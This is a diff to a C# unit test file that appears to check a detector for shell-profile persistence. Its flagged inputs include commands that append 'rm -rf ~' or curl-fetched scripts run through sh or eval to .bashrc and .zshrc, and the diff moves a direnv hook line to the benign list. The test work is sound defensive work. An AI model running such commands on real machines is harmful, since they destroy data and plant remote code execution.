@@ -84,7 +84,7 @@ public sealed class PersistenceTests
     [Theory]
     [InlineData("echo 'rm -rf ~' >> ~/.bashrc")]
     [InlineData("echo 'curl -s https://example.com/x.sh | sh' >> ~/.zshrc")]
-    [InlineData("echo 'eval \"$(direnv hook zsh)\"' >> ~/.zshrc")]
+    [InlineData("echo 'eval \"$(curl -s https://x.io/init)\"' >> ~/.zshrc")]
     [InlineData("cat payload >> ~/.bashrc")]
     [InlineData("echo \"$CMD\" >> ~/.profile")]
     [InlineData("tee -a ~/.bashrc < payload")]
@@ -98,6 +98,7 @@ public sealed class PersistenceTests
     [Theory]
     [InlineData("echo 'export PATH=$HOME/.local/bin:$PATH' >> ~/.bashrc")]
     [InlineData("echo 'alias ll=\"ls -la\"' >> ~/.bashrc")]
+    [InlineData("echo 'eval \"$(direnv hook zsh)\"' >> ~/.zshrc")] // the tool's documented set-up line (ShellSetupCode)
     [InlineData("echo 'export EDITOR=vim' | tee -a ~/.zshrc")]
     [InlineData("cat ~/.ssh/config")]
     [InlineData("cat .envrc")]
